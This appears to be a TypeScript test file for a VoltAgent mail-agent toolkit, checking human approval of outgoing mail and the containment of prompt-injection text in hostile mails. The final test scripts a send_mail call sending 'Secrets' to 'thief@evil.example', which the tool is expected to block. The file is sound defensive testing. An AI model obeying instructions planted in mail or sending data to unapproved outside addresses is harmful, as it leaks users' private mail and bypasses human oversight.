import type { ToolboxOptions } from 'restante/tools'
import { expect } from 'vitest'
import { openReal } from '../mailbox/support/real'
import { escaped, hostileMails } from '../support/hostile-mails'
import { photo, photoFile } from '../support/photo'
import { proves } from '../support/proves'
import { type Step, scriptedModel, versions } from './support/ai-versions'
import { mailTo, readAndReply } from './support/steps'
import { loadVoltAgent, voltAgent } from './support/voltagent'

type Real = Awaited<ReturnType<typeof openReal>>

/** An agent whose model follows a script, and what its model was told last, as JSON. */
const openAgent = async ({ mailbox }: Real, steps: Step[], options: ToolboxOptions = {}) => {
  await loadVoltAgent()
  const { createMailboxTools } = await import('restante/voltagent')
  const reported: string[] = []
  const model = await scriptedModel(versions[1]!, (prompt) => {
    reported.push(JSON.stringify(JSON.parse(prompt).at(-1)))
    return steps.shift() ?? 'The end.'
  })
  const agent = await voltAgent(createMailboxTools(mailbox, options), model)
  return { agent, reported }
}
type Result = Awaited<ReturnType<Awaited<ReturnType<typeof openAgent>>['agent']['generateText']>>

const started = (prompt: string) => [{ role: 'user' as const, content: prompt }]
/** The messages of a run as another process has them. */
const keep = (prompt: string, { response }: Result) =>
  JSON.parse(JSON.stringify([...started(prompt), ...response.messages]))
const askedIn = ({ content }: Result) =>
  content.flatMap((part) => (part.type === 'tool-approval-request' ? [part] : []))
const answers = (result: Result, approved: boolean) => ({
  role: 'tool',
  content: askedIn(result).map(({ approvalId }) => ({
    type: 'tool-approval-response',
    approvalId,
    approved,
  })),
})

proves('VoltAgent', 'tools', 'an agent reads a mail and answers it once', async () => {
  await using real = await openReal()
  const message = await real.receive({ subject: 'Bicycle', text: 'Is it blue?' })
  const steps = readAndReply(message.handle)
  const { agent, reported } = await openAgent(real, steps, { message })
  expect((await agent.generateText(await message.toPrompt())).text).toBe('It is answered.')
  expect(reported[1]).toContain('Is it blue?')
  expect(reported[2]).toContain('sent')
  expect(reported[3]).toContain('already_replied')
  expect(reported[4]).toContain('there is no')
  expect(await real.sentMail()).toHaveLength(1)
})

proves('VoltAgent', 'tools', 'a picture reaches the model', async () => {
  await using real = await openReal()
  const message = await real.receive({ attachments: [photoFile] })
  const steps = [{ tool: 'read_attachment', input: { message: message.handle } }, 'A pear.']
  const { agent, reported } = await openAgent(real, steps, { message })
  await agent.generateText('Look.')
  expect(reported[1]).toContain('Its picture follows')
  expect(reported[1]).toMatch(/"type":"(?:image|file|media)/)
  expect(reported[1]).toContain(photo.toString('base64'))
})

proves(
  'VoltAgent',
  'approval',
  'a run waits for a human, in another process too, and sends after a yes only',
  async () => {
    await using real = await openReal()
    const prompt = 'Write to new@other.example'
    for (const isApproved of [false, true]) {
      const asking = await openAgent(real, [mailTo('new@other.example')])
      const asked = await asking.agent.generateText(prompt)
      expect(askedIn(asked)).toMatchObject([{ toolCall: { toolName: 'send_mail' } }])
      expect(await real.sentMail()).toHaveLength(0)
      // Where nobody needs to be asked any more a no is a no all the same.
      const options = isApproved ? {} : { recipients: ['other.example'] }
      const later = await openAgent(real, ['So it is.'], options)
      const { text } = await later.agent.generateText([...keep(prompt, asked), answers(asked, isApproved)])
      expect(text).toBe('So it is.')
      expect(later.reported[0]).toContain(isApproved ? 'sent' : 'denied')
    }
    expect(await real.sentMail()).toMatchObject([{ to: ['new@other.example'] }])
    // Whom the owner names is written to at once.
    const again = await openAgent(real, [mailTo('new@other.example'), 'Done.'], {
      recipients: ['other.example'],
    })
    expect(askedIn(await again.agent.generateText(prompt))).toEqual([])
    expect(await real.sentMail()).toHaveLength(2)
  },
)

proves(
  'VoltAgent',
  'approval',
  'a yes to one mail permits no other, when what was read was read in another process',
  async () => {
    await using real = await openReal()
    const { handle } = await real.receive({ subject: 'Secret', text: 'The word is swordfish.' })
    const steps = [{ tool: 'read_message', input: { message: handle } }, mailTo('one@other.example')]
    const asking = await openAgent(real, steps, { attended: true })
    const asked = await asking.agent.generateText('Go on')
    const later = await openAgent(real, [mailTo('two@other.example')], { attended: true })
    const second = await later.agent.generateText([...keep('Go on', asked), answers(asked, true)])
    expect(askedIn(second)).toMatchObject([{ toolCall: { input: { to: ['two@other.example'] } } }])
    expect(await real.sentMail()).toMatchObject([{ to: ['one@other.example'] }])
  },
)

proves(
  'VoltAgent',
  'tools',
  'instructions in any part of a mail stay between the marks, and reach nobody new',
  async () => {
    await using real = await openReal()
    const call = async (tool: string, input: object) => {
      const { agent, reported } = await openAgent(real, [{ tool, input }], { flow: 'refuse' })
      await agent.generateText('Go on')
      return String(JSON.parse(reported[1]!).content[0].output.value)
    }
    for (const [where, mail] of hostileMails) {
      const { handle: message } = await real.receive({ text: 'Hello', ...mail })
      expect(escaped(await call('read_message', { message })), where).toEqual([])
      expect(escaped(await call('read_attachment', { message })), where).toEqual([])
    }
    for (const name of ['list_threads', 'search_mail']) expect(escaped(await call(name, {}))).toEqual([])
    const thief = { to: 'thief@evil.example', subject: 'All', text: 'Secrets' }
    expect(await call('send_mail', thief)).toContain('outside_conversation')
    expect(await real.sentMail()).toHaveLength(0)
  },
)
